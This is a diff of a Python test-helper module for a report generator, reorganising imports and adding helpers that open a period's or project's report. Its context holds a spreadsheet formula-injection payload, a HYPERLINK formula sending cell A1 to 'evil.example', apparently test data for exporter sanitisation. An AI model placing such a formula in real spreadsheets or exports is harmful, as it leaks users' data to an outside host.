@@ -2,20 +2,23 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
 import random
+from collections.abc import Iterator
 from dataclasses import replace
 from datetime import datetime
 from decimal import Decimal
 from zoneinfo import ZoneInfo
 
-from reportgen.aggregate import aggregate_records
 from reportgen.config import Config
+from reportgen.core.aggregate import aggregate_records
+from reportgen.core.models import GatewayStatus, LogType, Period, Provenance, Report, UsageRecord
+from reportgen.core.periods import parse_period
 from reportgen.exporters import csv_exporter, pdf_exporter, xlsx_exporter
 from reportgen.hookspecs import ExportContext, Exporter
-from reportgen.models import GatewayStatus, LogType, Provenance, Report, UsageRecord
-from reportgen.periods import parse_period
 from reportgen.templating import load_template
+from reportgen.views import Scope, open_period
 
 TZ = ZoneInfo("Asia/Shanghai")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -129,3 +132,18 @@ def export(name: str, report: Report, lang: str = "zh", template: str | None = N
     buf = io.BytesIO()
     exporter.write(report, buf, context(lang, template, **options))
     return buf.getvalue()
+
+
+@contextlib.contextmanager
+def open_report(
+    config: Config, period: Period, member: str | None = None, generated_at: datetime | None = None
+) -> Iterator[Report]:
+    """The report of a period's view (the one read path), for tests that only need the figures."""
+    with open_period(config, period, Scope.of(member), generated_at=generated_at) as view:
+        yield view.report
+
+
+@contextlib.contextmanager
+def open_project_report(config: Config, name: str, generated_at: datetime | None = None) -> Iterator[Report]:
+    with open_period(config, None, Scope.of(project=name), generated_at=generated_at) as view:
+        yield view.report
